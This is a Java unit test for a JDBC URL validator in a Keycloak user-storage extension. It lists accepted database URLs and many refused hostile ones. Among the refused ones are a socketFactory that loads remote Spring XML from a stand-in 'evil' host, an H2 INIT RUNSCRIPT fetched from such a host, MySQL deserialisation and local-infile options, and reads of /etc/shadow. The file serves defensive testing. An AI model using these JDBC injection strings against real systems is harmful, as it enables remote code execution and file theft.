package dev.identitybridge.keycloak.users.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.identitybridge.keycloak.users.config.InvalidConfigException;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The URL forms a realm admin may save, and the hostile ones that never reach a driver. */
class JdbcUrlTest {

    @ParameterizedTest(name = "{0}")
    @CsvSource(
            delimiter = '|',
            value = {
                "jdbc:postgresql://db.internal:5432/app                                     | POSTGRESQL | db.internal | 5432 | app",
                "jdbc:postgresql://db.internal/app                                          | POSTGRESQL | db.internal | 5432 | app",
                "JDBC:POSTGRESQL://DB.Internal/app                                          | POSTGRESQL | db.internal | 5432 | app",
                "jdbc:postgresql://10.0.0.5:6432/app?sslmode=verify-full&ApplicationName=kc | POSTGRESQL | 10.0.0.5    | 6432 | app",
                "jdbc:postgresql://127.0.0.1:5432/test?currentSchema=a_b&connectTimeout=5   | POSTGRESQL | 127.0.0.1   | 5432 | test",
                "jdbc:postgresql://[::1]:5433/app?ssl=true&socketTimeout=30&tcpKeepAlive=true | POSTGRESQL | ::1       | 5433 | app",
                "jdbc:postgresql://db/                                                      | POSTGRESQL | db          | 5432 | ''",
                "jdbc:mariadb://127.0.0.1:3306/app                                          | MARIADB    | 127.0.0.1   | 3306 | app",
                "jdbc:mariadb://db/app?sslMode=verify-full&connectTimeout=5000              | MARIADB    | db          | 3306 | app",
                "jdbc:mariadb://db:3307/app?connectionAttributes=program_name:keycloak      | MARIADB    | db          | 3307 | app",
                "jdbc:mysql://db:3306/app?sslMode=VERIFY_IDENTITY&serverTimezone=UTC        | MYSQL      | db          | 3306 | app",
                "jdbc:mysql://db/app?useSSL=true&characterEncoding=utf8&useUnicode=true     | MYSQL      | db          | 3306 | app",
                "jdbc:h2:tcp://127.0.0.1:9123/mem:identity_bridge_it_1;DB_CLOSE_DELAY=-1    | H2         | 127.0.0.1   | 9123 | mem:identity_bridge_it_1",
                "jdbc:h2:ssl://h2.internal/~/app;MODE=PostgreSQL;IFEXISTS=TRUE              | H2         | h2.internal | 9092 | ~/app",
                "jdbc:h2:tcp://h/app;NON_KEYWORDS=VALUE,USER;DATABASE_TO_UPPER=false        | H2         | h          | 9092 | app",
            })
    void acceptedNetworkUrls(String url, Dialect dialect, String host, int port, String path) {
        JdbcUrl parsed = JdbcUrl.parse(url);
        assertThat(parsed.dialect()).isEqualTo(dialect);
        assertThat(parsed.host()).isEqualTo(host);
        assertThat(parsed.port()).isEqualTo(port);
        assertThat(parsed.path()).isEqualTo(path);
        assertThat(parsed.embedded()).isFalse();
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource({
        "jdbc:h2:file:./data/identity-bridge/app-users, ./data/identity-bridge/app-users",
        "jdbc:h2:./data/app, ./data/app",
        "jdbc:h2:~/app;MODE=MySQL, ~/app",
        "jdbc:h2:file:/var/lib/kc/h2/app;SCHEMA=APP;LOCK_TIMEOUT=1000, /var/lib/kc/h2/app",
    })
    void acceptedEmbeddedH2Urls(String url, String path) {
        JdbcUrl parsed = JdbcUrl.parse(url);
        assertThat(parsed.embedded()).isTrue();
        assertThat(parsed.path()).isEqualTo(path);
    }

    @Test
    void parametersAreKept() {
        assertThat(JdbcUrl.parse("jdbc:postgresql://db/app?sslmode=require&ApplicationName=kc")
                        .parameters())
                .isEqualTo(Map.of("sslmode", "require", "ApplicationName", "kc"));
    }

    @ParameterizedTest(name = "{0} -> {1}")
    @CsvSource(
            delimiter = '|',
            value = {
                // PostgreSQL: classes to load, files to write or read, credentials, several hosts
                "jdbc:postgresql://db/app?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml | 'socketFactory' is not allowed",
                "jdbc:postgresql://db/app?sslfactory=org.postgresql.ssl.NonValidatingFactory       | 'sslfactory' is not allowed",
                "jdbc:postgresql://db/app?sslhostnameverifier=x.Y                                  | 'sslhostnameverifier' is not allowed",
                "jdbc:postgresql://db/app?sslpasswordcallback=x.Y                                  | credentials in the URL",
                "jdbc:postgresql://db/app?authenticationPluginClassName=x.Y                        | 'authenticationPluginClassName' is not allowed",
                "jdbc:postgresql://db/app?loggerLevel=TRACE&loggerFile=/opt/keycloak/conf/x.conf   | 'loggerLevel' is not allowed",
                "jdbc:postgresql://db/app?loggerFile=/tmp/pwned                                    | 'loggerFile' is not allowed",
                "jdbc:postgresql://db/app?sslrootcert=/etc/shadow                                  | 'sslrootcert' is not allowed",
                "jdbc:postgresql://db/app?sslkey=/etc/shadow                                       | 'sslkey' is not allowed",
                "jdbc:postgresql://db/app?service=other                                            | 'service' is not allowed",
                "jdbc:postgresql://db/app?user=postgres&password=x                                 | credentials in the URL",
                "jdbc:postgresql://db/app?PASSWORD=x                                               | credentials in the URL",
                "jdbc:postgresql://postgres:secret@db/app                                          | credentials in the URL",
                "jdbc:postgresql://db1,db2/app                                                     | one host only",
                "jdbc:postgresql://db1:5432,evil:5432/app?targetServerType=primary                 | one host only",
                "jdbc:postgresql:app                                                               | explicit host",
                "jdbc:postgresql:///app                                                            | the host must be",
                "jdbc:postgresql://db/app?sslmode=require&sslmode=disable                          | given twice",
                "jdbc:postgresql://db/app?sslmode=bogus                                            | value of parameter 'sslmode'",
                "jdbc:postgresql://db/app?ApplicationName=a%26loggerFile%3D%2Ftmp%2Fx               | value of parameter 'ApplicationName'",
                "jdbc:postgresql://db/app?ssl                                                      | name=value pairs",
                "jdbc:postgresql://db:99999/app                                                    | port must be",
                "jdbc:postgresql://db/app;x                                                        | database name",
                "jdbc:postgresql://db/app?options=-c%20search_path=x                               | 'options' is not allowed",
                // MySQL / MariaDB: local infile, deserialisation, key-value forms, modes
                "jdbc:mysql://db/app?allowLoadLocalInfile=true                                     | 'allowLoadLocalInfile' is not allowed",
                "jdbc:mysql://db/app?allowUrlInLocalInfile=true                                    | 'allowUrlInLocalInfile' is not allowed",
                "jdbc:mysql://db/app?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor | 'autoDeserialize' is not allowed",
                "jdbc:mysql://db/app?allowLoadLocalInfileInPath=/                                  | 'allowLoadLocalInfileInPath' is not allowed",
                "jdbc:mysql://db/app?useConfigs=maxPerformance                                     | 'useConfigs' is not allowed",
                "jdbc:mysql://db/app?clientCertificateKeyStoreUrl=file:///etc/passwd               | 'clientCertificateKeyStoreUrl' is not allowed",
                "jdbc:mysql://(host=evil,port=3306,user=root,password=x)/app                       | key-value host forms",
                "jdbc:mysql://address=(host=evil)(port=3306)(allowLoadLocalInfile=true)/app        | key-value host forms",
                "jdbc:mysql://root:x@db/app                                                        | credentials in the URL",
                "jdbc:mysql:loadbalance://db1,db2/app                                              | explicit host",
                "jdbc:mysql://db/app?user=root                                                     | credentials in the URL",
                "jdbc:mariadb://db/app?allowLocalInfile=true                                       | 'allowLocalInfile' is not allowed",
                "jdbc:mariadb://db/app?socketFactory=x.Y                                           | 'socketFactory' is not allowed",
                "jdbc:mariadb://db/app?localSocket=/var/run/mysqld/mysqld.sock                     | 'localSocket' is not allowed",
                "jdbc:mariadb://db/app?serverSslCert=/etc/shadow                                   | 'serverSslCert' is not allowed",
                "jdbc:mariadb://address=(host=evil)(port=3306)(type=primary)/app                   | key-value host forms",
                "jdbc:mariadb:replication://db1,db2/app                                            | explicit host",
                "jdbc:mariadb:sequential://db/app                                                  | explicit host",
                "jdbc:mariadb://db1,db2/app                                                        | one host only",
                "jdbc:mariadb://db/app?password=x                                                  | credentials in the URL",
                // H2: code, files, sockets, memory shared with Keycloak
                "jdbc:h2:mem:keycloakdb                                                            | in-memory H2 databases",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM http://evil/x.sql                               | spaces",
                "jdbc:h2:tcp://db/app;INIT=CREATE ALIAS EXEC AS $$ void e() {} $$                  | spaces",
                "jdbc:h2:tcp://db/app;INIT=RUNSCRIPT                                               | 'INIT' is not allowed",
                "jdbc:h2:file:./data/x;init=CALL\\u0020x                                            | 'init' is not allowed",
                "jdbc:h2:file:./data/x;TRACE_LEVEL_FILE=3                                          | 'TRACE_LEVEL_FILE' is not allowed",
                "jdbc:h2:file:./data/x;TRACE_LEVEL_SYSTEM_OUT=3                                    | 'TRACE_LEVEL_SYSTEM_OUT' is not allowed",
                "jdbc:h2:file:./data/x;AUTO_SERVER=TRUE                                            | 'AUTO_SERVER' is not allowed",
                "jdbc:h2:file:./data/x;FILE_LOCK=NO                                                | 'FILE_LOCK' is not allowed",
                "jdbc:h2:file:./data/x;ACCESS_MODE_DATA=rws                                        | 'ACCESS_MODE_DATA' is not allowed",
                "jdbc:h2:file:./data/x;USER=sa;PASSWORD=x                                          | credentials in the URL",
                "jdbc:h2:zip:~/db.zip!/test                                                        | no other H2 file systems",
                "jdbc:h2:split:./data/x                                                            | no other H2 file systems",
                "jdbc:h2:nio:./data/x                                                              | no other H2 file systems",
                "jdbc:h2:file:C:/data/x                                                            | no other H2 file systems",
                "jdbc:h2:tcp://db1,db2/app                                                         | one host only",
                "jdbc:h2:tcp://sa:x@db/app                                                         | credentials in the URL",
                "jdbc:h2:tcp://db                                                                  | jdbc:h2:tcp://host[:port]/path",
                "jdbc:h2:file:./data/x;;INIT=x                                                     | name=value pairs",
                // other drivers
                "jdbc:oracle:thin:@db:1521:x                                                       | Unsupported JDBC URL",
                "jdbc:sqlite:/etc/passwd                                                           | Unsupported JDBC URL",
            })
    void refusedUrls(String url, String message) {
        assertThatThrownBy(() -> JdbcUrl.parse(url))
                .isInstanceOf(InvalidConfigException.class)
                .hasMessageContaining(message);
    }

    @Test
    void messagesNeverEchoAParameterValue() {
        assertThatThrownBy(() -> JdbcUrl.parse("jdbc:postgresql://db/app?sslmode=Secr3tValue"))
                .hasMessageNotContaining("Secr3tValue");
        assertThatThrownBy(() -> JdbcUrl.parse("jdbc:mysql://(host=db,password=Secr3tValue)/app"))
                .hasMessageNotContaining("Secr3tValue");
        assertThatThrownBy(() -> JdbcUrl.parse("jdbc:postgresql://u:Secr3tValue@db/app"))
                .hasMessageNotContaining("Secr3tValue");
    }
}
